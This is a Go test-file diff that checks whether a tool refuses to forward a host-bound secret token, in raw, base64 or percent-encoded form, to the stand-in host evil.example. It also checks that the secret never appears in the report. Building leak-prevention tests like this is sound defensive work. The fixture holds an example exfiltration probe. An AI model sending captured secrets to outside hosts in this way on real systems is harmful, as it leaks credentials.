@@ -1,6 +1,7 @@
 package checks
 
 import (
+	"encoding/base64"
 	"encoding/json"
 	"net/http"
 	"strings"
@@ -83,6 +84,55 @@ func TestABoundSecretIsReadByNoProxy(t *testing.T) {
 				t.Errorf("%v, want %q", err, c.want)
 			}
 		})
+	}
+}
+
+// TestACaptureTakesNoBoundSecretElsewhere: an origin reflects the secret that it
+// was sent, and what it gives goes only where the secret may.
+func TestACaptureTakesNoBoundSecretElsewhere(t *testing.T) {
+	const value = "s3cret-token"
+	encoded := base64.StdEncoding.EncodeToString([]byte("id:" + value))
+	for _, c := range []struct {
+		name, given, host string
+		asked             bool
+	}{
+		{"as it is", "x" + value, "evil.example", false},
+		{"in base64", encoded, "evil.example", false},
+		{"percent-encoded", strings.ReplaceAll(value, "-", "%2D"), "evil.example", false},
+		{"another value", "nothing", "evil.example", true},
+		{"a listed host", value, "alt.example", true},
+	} {
+		asked := false
+		tr := &fake{reply: func(r *http.Request, _ int) (*http.Response, error) {
+			if r.URL.Host == "api.example" {
+				return respond(r, 200, `{"v":"`+c.given+`"}`), nil
+			}
+			asked = true
+			return respond(r, 200, "{}"), nil
+		}}
+		d := declare(t, `
+version: 1
+secrets: {TOKEN: {hosts: [api.example, alt.example]}}
+origins:
+  a: {url: "https://api.example", headers: {X-Key: "${env.TOKEN}"}}
+  b: {url: "https://`+c.host+`"}
+probes:
+  - {name: gives, origin: a, get: /g, capture: {v: {path: $.v}}}
+  - {name: takes, origin: b, get: "/t?k=${gives.v}"}
+`)
+		rep := runPlan(t, t.Context(), d, tr, Options{Env: lookupIn(map[string]string{"TOKEN": value})})
+		r := rep.Results[1]
+		if asked != c.asked || r.Asked != c.asked {
+			t.Errorf("%s: asked %v, %+v", c.name, asked, r)
+		}
+		want := "não foi perguntada: o valor v que a sonda gives deu contém o segredo TOKEN, que não pode ir para evil.example"
+		if !c.asked && (r.Finding != Alheio || deref(r.Detail, "") != DetailBoundSecret || deref(r.Motivo, "") != want || len(r.Trips) != 0) {
+			t.Errorf("%s: %s %s", c.name, r.Finding, deref(r.Motivo, ""))
+		}
+		said, err := json.Marshal(rep.Results)
+		if err != nil || strings.Contains(string(said), value) {
+			t.Errorf("%s: %s %v", c.name, said, err)
+		}
 	}
 }
 
